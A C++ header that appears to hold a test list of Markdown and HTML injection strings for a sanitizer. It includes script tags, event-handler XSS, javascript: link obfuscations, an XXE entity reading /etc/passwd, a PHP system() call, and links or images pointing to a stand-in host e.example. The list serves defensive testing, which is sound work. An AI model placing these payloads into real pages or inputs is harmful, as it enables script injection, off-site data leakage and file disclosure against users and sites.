// Known ways of making Markdown active, one literal each.
#pragma once

#include <string>
#include <vector>

inline const std::vector<std::string> markdown_attacks = {
"<script>alert(1)</script>", "<SCRIPT SRC=https://e.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
"<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe src=\"javascript:alert(1)\"></iframe>",
"<a href=\"javascript:alert(1)\">x</a>", "<body onload=alert(1)>", "<math><mi xlink:href=\"data:x,<script>\"></mi></math>",
"<style>*{background:url(https://e.example)}</style>", "<link rel=stylesheet href=//e.example>", "<base href=\"https://e.example/\">",
"<meta http-equiv=refresh content=\"0;url=https://e.example\">", "<form action=https://e.example><input name=a></form>",
"<object data=x></object>", "<embed src=x>", "<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
"<?php system('x') ?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "a <b onmouseover=alert(1)>b</b>",
"<details open ontoggle=alert(1)>", "<div\nonclick=alert(1)\n>x</div>", "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</script>",
"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&colon;alert(1))", "[x](javascript&#58;alert(1))",
"[x](&#106;avascript:alert(1))", "[x](&#x6A;avascript:alert(1))", "[x](java\nscript:alert(1))", "[x](<java\tscript:alert(1)>)",
"[x](java&Tab;script:alert(1))", "[x](java&NewLine;script:alert(1))", "[x](&#1;javascript:alert(1))", "[x](\\javascript:alert(1))",
"[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
"[x](file:///etc/passwd)", "[x](blob:https://a)", "[x](//e.example)", "[x](/\\e.example)", "[x](\\\\e.example)", "[x](/&#9;/e.example)",
"[x](https:e.example)", "[x](https:/e.example)", "[x](https:///e.example)", "[x](https://impots.gouv.fr@e.example)",
"[x](https://user:pass@e.example/)", "[x](https:\\\\e.example)", "[x](view-source:https://a)", "[x](feed:javascript:alert(1))",
"[x](#javascript:alert(1))", "[x](?a)", "[x](relative)", "[x]()", "[x](tel:)", "[x](mailto:)", "[x](MAILTO:a@b.fr)",
"[x](https://a.fr/\"onmouseover=alert(1))", "[x](https://a.fr/'onmouseover='alert(1))", "[x](<https://a.fr/\"><script>alert(1)</script>>)",
"[x](https://a.fr \"\\\" onmouseover=alert(1) x=\\\"\")", "[x](https://a.fr '\"><script>alert(1)</script>')", "[x](/a \"\\\"><img src=x>\")",
"[x][r]\n\n[r]: javascript:alert(1)", "[r]\n\n[r]: <javascript:alert(1)> \"t\"", "[x][r]\n\n[r]: https://a.fr '\" onclick=\"alert(1)'",
"<javascript:alert(1)>", "<data:text/html,x>", "<https://a.fr/\"onclick=alert(1)>", "<vbscript:x>", "<mailto:a@b.fr?subject=\"><script>>",
"![x](javascript:alert(1))", "![x](https://e.example/p.gif)", "![\"onerror=alert(1) a=\"](/a.png)", "![x](/a.png \"\\\" onerror=alert(1) \")",
"![x](/a.png\"onerror=alert(1))", "![<script>alert(1)</script>](/a.png)", "![[x](javascript:alert(1))](/a.png)", "![x](\\\\e.example\\a.png)",
"![x](/\\e.example/a.png)", "[![x](https://e.example/a.gif)](javascript:alert(1))", "![![x](javascript:a)](/b.png)",
"```\"><script>alert(1)</script>\nx\n```", "```js\" onclick=\"alert(1)\n<script>\n```", "`<script>alert(1)</script>`", "    <script>alert(1)</script>",
"# <script>alert(1)</script>", "| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:alert(1)) | <img src=x onerror=a> |",
"|a|\n|:-:|\n|![x](https://e.example)|", "~~<script>alert(1)</script>~~", "**[x](javascript:alert(1))**", "> <script>alert(1)</script>",
"- <script>alert(1)</script>", "http://a.fr/\"onmouseover=\"alert(1)", "www.a.fr\"onmouseover=\"alert(1)", "www.a.fr<script>alert(1)</script>",
"javascript:alert(1)", "xss@a.fr\"onclick=alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\<script>alert(1)</script>",
"&#60;script&#62;alert(1)", "<a href='javascript:alert(1)'\n>x", "<x\u00A0onclick=alert(1)>", "\u2028<script>alert(1)</script>",
"[x](\u0001javascript:alert(1))", "[x](%6Aavascript:alert(1))", "[x](javascript%3Aalert(1))", "[^1]\n\n[^1]: <script>alert(1)</script>",
"- [ ] <script>x</script>", "<a rel=\"noopener external\" href=\"http://e.example\">x</a>", "<a href=\"http://e.example\">x</a>"
};
